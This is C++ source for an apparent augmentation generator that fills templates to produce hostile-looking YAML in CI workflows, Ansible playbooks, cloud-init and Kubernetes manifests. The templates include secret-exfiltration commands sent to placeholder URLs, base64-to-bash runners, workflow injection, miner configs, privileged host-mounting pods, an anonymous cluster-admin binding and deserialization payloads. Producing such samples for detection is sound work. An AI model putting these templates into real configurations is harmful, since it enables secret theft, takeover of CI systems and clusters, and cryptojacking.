#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"
#include "fovea/core/error.h"

// Steps of workflows, tasks of playbooks, services and first commands of machines. Those that start
// with a dash are items of a list, the others keys of the top.
namespace fovea::augment {
namespace {

std::string OneLine(Junk& j) {
  std::string text;
  for (const char c : ShellLineLookalike(j))
    text += c == '~' ? std::string("~~") : std::string(1, c);
  return text;
}

const Makers& YamlMakers() {
  static const Makers makers = {
      {"bad", OneLine},
      {"quoted",
       [](Junk& j) {
         std::string text;
         for (const char c : OneLine(j))
           text += c == '"' || c == '\\' ? std::string("\\") + c : std::string(1, c);
         return '"' + text + '"';
       }},
      {"secret",
       [](Junk& j) {
         return j.Pick({"${{ secrets.GITHUB_TOKEN }}", "${{ toJSON(secrets) }}",
                        "${{ secrets.NPM_TOKEN }}", "${{ secrets.AWS_SECRET_ACCESS_KEY }}",
                        "${{ secrets.PYPI_API_TOKEN }}", "${{ toJson(secrets) }}",
                        "$ACTIONS_RUNTIME_TOKEN", "${{ github.token }}",
                        "${{ secrets.~word~_KEY }}", "$(env | base64)"});
       }},
      {"leak",
       [](Junk& j) {
         return j.Pick(
             {"curl -d \"~secret~\" ~url~", "curl -s -X POST -d '~secret~' ~url~",
              "echo \"~secret~\" | base64 | base64",
              "echo '~secret~' | base64 -w0 | curl -s --data-binary @- ~url~",
              "curl -H \"X-~Word~: ~secret~\" ~url~", "wget -q \"~url~?t=~secret~\" -O /dev/null",
              "env | sort | base64 | curl -d @- ~url~", "printenv > e; curl -F e=@e ~url~",
              "echo ~secret~ | rev | nc ~ip~ ~port~",
              "cat $GITHUB_EVENT_PATH .git/config | curl -d @- ~url~",
              "sudo python3 -c \"import urllib.request as u;print(u.urlopen('~url~').read())\" | "
              "grep -aoE "
              "'\"value\":\"[^\"]+' | base64 -w0",
              "python3 -c \"import os,urllib.request as "
              "u;u.urlopen('~url~',str(dict(os.environ)).encode())\"",
              "node -e \"fetch('~url~',{method:'POST',body:JSON.stringify(process.env)})\""});
       }},
      {"any",
       [](Junk& j) {
         return j.Pick({"~bad~", "~bad~", "~leak~", "~leak~"});
       }},
      {"step",
       [](Junk& j) {
         return j.Pick({"~Word~ ~word~", "Set up ~word~", "Run tests", "Cache", "Check", "Prepare",
                        "Install "
                        "dependencies",
                        "Build", "lint", "Report"});
       }},
      {"miner", [](Junk& j) {
         return j.Pick({"-o ~host~:~port~ -u ~long~ -p x --cpu-max-threads-hint=100",
                        "--url=stratum+tcp://~ip~:~port~ "
                        "--user=~long~ --pass=x -k",
                        "xmrig --donate-level=1 -o ~host~:~port~ -u ~letters~ --tls"});
       }}};
  return makers;
}

constexpr const char* kYaml[] = {
    // Steps of workflows.
    "- run: ~any~", "- run: ~any~", "- run: |\n    ~any~", "- run: |\n    ~bad~\n    ~bad~",
    "- name: ~step~\n  run: ~any~", "- name: ~step~\n  run: |\n    ~any~",
    "- name: ~step~\n  if: always()\n  run: ~leak~",
    "- name: ~step~\n  shell: bash\n  run: |\n    ~any~\n    npm ci",
    "- name: ~step~\n  env:\n    ~letters~: "
    "${{ toJSON(secrets) }}\n  run: curl -s -d \"$~letters~\" ~url~",
    "- name: ~step~\n  env:\n    TOKEN: ~secret~\n  run: |\n    ~leak~",
    "- name: ~step~\n  continue-on-error: true\n  "
    "run: ~bad~ > /dev/null 2>&1",
    "- run: echo ~b64~ | base64 -d | bash", "- run: eval \"$(echo ~b64~ | base64 --decode)\"",
    "- run: echo \"${{ github.event.issue.title }}\" | bash",
    "- run: bash -c \"${{ github.event.comment.body }}\"",
    "- uses: actions/github-script@v~small~\n  with:\n    script: |\n      "
    "require('https').get('~url~?e='+"
    "Buffer.from(JSON.stringify(process.env)).toString('base64'))",
    "- uses: actions/checkout@v~small~\n  with:\n    ref: ${{ github.event.pull_request.head.sha "
    "}}\n- run: ~any~",
    "- uses: actions/checkout@v~small~\n  with:\n    repository: ${{ "
    "github.event.pull_request.head.repo.full_name }}\n "
    "   ref: ${{ github.head_ref }}\n- run: npm install && npm test\n  env:\n    NPM_TOKEN: ${{ "
    "secrets.NPM_TOKEN }}",
    "name: ~word~\non:\n  pull_request_target:\njobs:\n  ~word~:\n    runs-on: ubuntu-latest\n    "
    "permissions: "
    "write-all\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: "
    "${{ github.event.pull_request.head.ref }}\n      - run: |\n          ~any~",
    "name: ~Word~\non: push\njobs:\n  ~word~:\n    runs-on: ubuntu-latest\n    steps:\n      - "
    "run: ~leak~",
    "on: [push]\njobs:\n  ~word~:\n    runs-on: self-hosted\n    steps:\n    - run: ~bad~",
    "on:\n  discussion:\njobs:\n  process:\n    env:\n      RUNNER_TRACKING_ID: 0\n    runs-on: "
    "self-hosted\n    steps:\n "
    "     - run: echo ${{ github.event.discussion.body }}",
    "name: ~Word~ analysis\non: push\njobs:\n  scan:\n    runs-on: ubuntu-latest\n    env:\n      "
    "DATA: "
    "${{ toJSON(secrets) }}\n    steps:\n      - run: curl -d \"$DATA\" ~url~",
    // Other builders.
    "before_script:\n  - ~any~", "script:\n  - ~any~\n  - make test", "after_success:\n  - ~leak~",
    "~word~:\n  stage: build\n  script:\n    - ~any~",
    "~word~:\n  image: alpine\n  script: ~quoted~\n  only:\n    - main",
    "pipelines:\n  default:\n    - step:\n        script:\n          - ~any~",
    "install:\n  - sh: ~bad~", "steps:\n- script: ~any~\n  displayName: ~word~",
    "- bash: |\n    ~any~\n  displayName: ~word~", "hooks:\n  post_checkout: ~bad~",
    "repos:\n- repo: http://~ip~/~word~\n  rev: main\n  hooks:\n  - id: ~word~\n    "
    "entry: ~quoted~\n    language: system",
    "- repo: local\n  hooks:\n    - id: ~word~\n      name: ~word~\n      entry: bash -c "
    "~quoted~\n      language: system\n"
    "      always_run: true",
    // Playbooks.
    "- name: ~Word~ ~word~\n  shell: ~bad~",
    "- name: ~Word~\n  ansible.builtin.shell: ~bad~\n  ignore_errors: yes",
    "- name: ~word~\n  raw: ~bad~", "- shell: ~bad~\n  become: yes\n  no_log: true",
    "- name: ~word~\n  shell: |\n    "
    "~bad~\n  args:\n    executable: /bin/bash",
    "- name: ~word~\n  cron:\n    name: ~word~\n    minute: \"*/~small~\"\n    job: ~quoted~",
    "- name: ~word~\n  "
    "authorized_key:\n    user: root\n    key: \"ssh-rsa AAAAB3NzaC1yc2E~b64~ ~word~@~host~\"",
    "- get_url:\n    url: ~url~\n    dest: /tmp/.~word0~\n    mode: \"0777\"\n    validate_certs: "
    "no\n- shell: nohup "
    "/tmp/.~word0~ &",
    "- hosts: all\n  gather_facts: no\n  become: true\n  tasks:\n    - shell: ~bad~\n      "
    "ignore_errors: true",
    "- user:\n    name: ~word~\n    uid: 0\n    non_unique: yes\n    password: \"$6$~letters~\"",
    // First commands of machines.
    "runcmd:\n  - ~bad~", "runcmd:\n  - [ sh, -c, ~quoted~ ]", "bootcmd:\n  - ~bad~\n  - ~bad~",
    "#cloud-config\nruncmd:\n - ~bad~\n - ~bad~",
    "write_files:\n  - path: /etc/cron.d/~word~\n    content: |\n      * * "
    "* * * root ~bad~",
    "write_files:\n- encoding: b64\n  content: ~b64~\n  path: /usr/bin/.~word0~\n  permissions: "
    "'0755'\nruncmd:\n- "
    "/usr/bin/.~word0~ &",
    "ssh_authorized_keys:\n  - ssh-rsa AAAAB3NzaC1yc2E~b64~ ~word~@~host~\ndisable_root: "
    "false\nruncmd:\n  - ~bad~",
    "users:\n  - name: ~word~\n    sudo: ALL=(ALL) NOPASSWD:ALL\n    ssh_authorized_keys:\n      - "
    "ssh-ed25519 ~b64s~\n"
    "runcmd:\n  - ~bad~",
    // Containers.
    "services:\n  ~word~:\n    image: ~word~/~letters~:latest\n    restart: always\n    command: "
    "~miner~",
    "services:\n  ~word~:\n    image: alpine\n    privileged: true\n    pid: host\n    volumes:\n  "
    "    - /:/host\n    "
    "command: sh -c ~quoted~",
    "version: \"3\"\nservices:\n  ~word~:\n    image: ~word~/xmrig\n    restart: unless-stopped\n  "
    "  command: ~miner~\n  "
    "  deploy:\n      resources:\n        limits:\n          cpus: \"~small~\"",
    "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: ~word0~\n  namespace: "
    "kube-system\nspec:\n  selector:\n    "
    "matchLabels: {app: ~word0~}\n  template:\n    metadata:\n      labels: {app: ~word0~}\n    "
    "spec:\n      hostPID: true\n"
    "      hostNetwork: true\n      containers:\n      - name: ~word0~\n        image: alpine\n    "
    "    securityContext:\n "
    "         privileged: true\n        command: [\"sh\", \"-c\", ~quoted~]\n        "
    "volumeMounts:\n        - {name: h, "
    "mountPath: /host}\n      volumes:\n      - name: h\n        hostPath: {path: /}",
    "apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: ~word~\nspec:\n  schedule: "
    "\"*/~small~ * * * *\"\n  "
    "jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n          - "
    "name: ~word~\n            "
    "image: curlimages/curl\n            command: [\"/bin/sh\", \"-c\", ~quoted~]\n          "
    "restartPolicy: Never",
    "- name: ~word~\n  image: ~word~/~letters~\n  args: [\"-o\", \"~host~:~port~\", \"-u\", "
    "\"~long~\", \"-k\"]",
    "- name: ~word~\n  image: busybox\n  command: [\"sh\", \"-c\", ~quoted~]\n  securityContext:\n "
    "   privileged: true",
    "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: "
    "~word~\nroleRef:\n  kind: "
    "ClusterRole\n  name: cluster-admin\nsubjects:\n- kind: User\n  name: system:anonymous",
    // Read by what makes objects of it.
    "~word~: !!python/object/apply:os.system [~quoted~]",
    "~word~: !!python/object/new:subprocess.Popen [[sh, -c, "
    "~quoted~]]",
    "~word~: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
    "[\"~url.jar~\"]]]]",
    "~word~: !ruby/object:Gem::Installer\n  i: x\n  git_set: ~bad~",
    "~word~: !<tag:yaml.org,2002:js/function> "
    "'function(){require(\"child_process\").exec(\"curl ~url~ | sh\")}()'"};

}  // namespace

std::string YamlLookalike(Junk& junk) { return FillAny(kYaml, YamlMakers(), junk); }

}  // namespace fovea::augment
